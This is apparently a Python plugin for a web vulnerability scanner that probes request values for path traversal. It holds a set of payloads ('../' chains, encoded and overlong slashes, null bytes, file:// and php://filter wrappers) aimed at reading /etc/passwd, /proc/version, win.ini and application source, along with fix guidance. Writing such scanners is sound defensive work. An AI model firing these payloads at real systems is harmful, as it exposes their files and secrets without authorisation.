"""A value that names a file: the target hands out one that lies outside of where it should read."""

import re
from collections.abc import AsyncIterator, Sequence
from functools import partial

from msgspec import Struct

from s2n.s2nscanner.sdk import (
    PASSWD,
    WIN_INI,
    CheckContext,
    Claim,
    Fresh,
    InputPoint,
    Location,
    PluginInfo,
    Severity,
    Signature,
    Spelling,
    prove_signature,
)

KERNEL = Signature("/proc/version", re.compile(r"Linux version \d+\.\d+\.\d\S* [^\n<]{0,300}#\d+ "))
SOURCE = Signature("the page's own program", re.compile(r"<\?(?:php\s|=)"))

_TOKEN = re.compile(r"[\w%+=-]{16,}(?:\.[\w%+=-]{16,})*")


class Technique(Struct, frozen=True):
    """How to spell a path: ``{up}`` goes up beyond the root, ``{stay}`` stays where it is.

    ``{v}`` is the original value, ``{folder}`` its folder, ``{ext}`` its suffix. ``slash`` is how the path's
    own slashes are written. ``raw``: the payload brings its own percent-encoding.
    """

    form: str
    up: str = "../"
    slash: str = "/"
    raw: bool = False


UNIX = (
    Technique("{up}{path}"),
    Technique("/{stay}{path}"),
    Technique("{folder}{up}{path}"),
    Technique("{up}{path}", up="....//"),
    Technique("{up}{path}\0{ext}"),
    Technique("{up}{path}", up="%2e%2e%2f", slash="%2f"),
    Technique("{up}{path}", up="..%c0%af", slash="%c0%af", raw=True),
    Technique("file:///{stay}{path}"),
    Technique("file:///{stay}{path}#"),
    Technique("php://filter/convert.base64-encode/resource=/{stay}{path}"),
)
WINDOWS = (
    Technique("{up}{path}", up="..\\", slash="\\"),
    Technique("{up}{path}"),
    Technique("C:/{stay}{path}"),
)
UNIX_SEGMENT = (
    Technique("{up}{path}", raw=True),
    Technique("{up}{path}", up="%2e%2e%2f", slash="%2f", raw=True),
    Technique("{up}{path}", up="%2e%2e/", raw=True),
    Technique("{up}{path}", up="%252e%252e%252f", slash="%252f", raw=True),
    Technique("{up}{path}", up="....//", raw=True),
    Technique("{up}{path}", up="..%c0%af", slash="%c0%af", raw=True),
    Technique("%2f{path}", slash="%2f", raw=True),
)
WINDOWS_SEGMENT = (
    Technique("{up}{path}", up="..%5c", slash="%5c", raw=True),
    Technique("{up}{path}", raw=True),
)
OWN_SOURCE = (Technique("php://filter/convert.base64-encode/resource={path}"),)


class Plugin:
    """Asks for a system file in many spellings; its content, and that of no made-up file, is the witness."""

    info = PluginInfo(
        id="path_traversal",
        title="Path traversal",
        severity=Severity.HIGH,
        cwe="CWE-22",
        owasp="A01:2021",
        wstg="WSTG-ATHZ-01",
        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
        cvss_score=7.5,
        what="A value from the request becomes part of a file name, and can leave the folder meant for it.",
        why="An attacker reads any file the application can read: configuration, keys, its source.",
        fix="Don't build file names from input: map known keys to files. Where a name must be taken, resolve "
        "the path and refuse it unless it lies below the intended folder.",
        references=(
            "https://owasp.org/www-community/attacks/Path_Traversal",
            "https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html",
            "https://cwe.mitre.org/data/definitions/22.html",
        ),
        max_requests=60,
    )

    async def check(self, point: InputPoint, ctx: CheckContext) -> AsyncIterator[Claim]:
        """One finding at most: the first spelling that brings a file."""
        if point.location is Location.FILENAME:
            return  # an upload writes to the name it is given
        if point.location is Location.HEADER and not point.value:
            return  # a header nobody asked for names no file
        if point.location is Location.COOKIE and _TOKEN.fullmatch(point.value):
            return  # neither does a session's
        probe = await ctx.probe(point)
        for signature, path, techniques in _files(point):
            for technique in techniques:
                spell = partial(_spelling, technique, point.value, path, ctx.fresh)
                proof = await prove_signature(probe, signature, spell, raw=technique.raw)
                if proof is not None:
                    yield ctx.finding(proof, point)
                    return


def _files(point: InputPoint) -> Sequence[tuple[Signature, str, Sequence[Technique]]]:
    """The files worth asking for. Where a request may write or delete, only one that nobody can change."""
    if point.location is Location.COOKIE:  # each page has it: only what the usual flaw needs
        return ((PASSWD, "etc/passwd", UNIX[:4]),)
    segment = point.location is Location.PATH
    unix, windows = (UNIX_SEGMENT, WINDOWS_SEGMENT) if segment else (UNIX, WINDOWS)
    if point.request.method not in {"GET", "HEAD"}:
        return ((KERNEL, "proc/version", unix),)
    files: list[tuple[Signature, str, Sequence[Technique]]]
    files = [(PASSWD, "etc/passwd", unix), (WIN_INI, "windows/win.ini", windows)]
    if point.value and not segment:
        files.append((SOURCE, point.value, OWN_SOURCE))
    return files


def _spelling(technique: Technique, value: str, path: str, fresh: Fresh) -> Spelling:
    """The attack; a made-up file spelt the same way; and the path's words, which a search would find."""
    depth = 10 + fresh.number(1) % 6

    def write(name: str) -> str:
        return technique.form.format(
            up=technique.up * depth,
            stay="./" * (depth - 8),
            folder=f"{value.rpartition('/')[0] or value}/",
            ext="." + (value.rpartition(".")[2] if "." in value else "html"),
            path=name.replace("/", technique.slash),
        )

    parent = path.rpartition("/")[0]
    made_up = f"{parent}/{fresh.letters(6)}" if parent else fresh.letters(6)
    return Spelling(write(path), (write(made_up), path.replace("/", " ")))
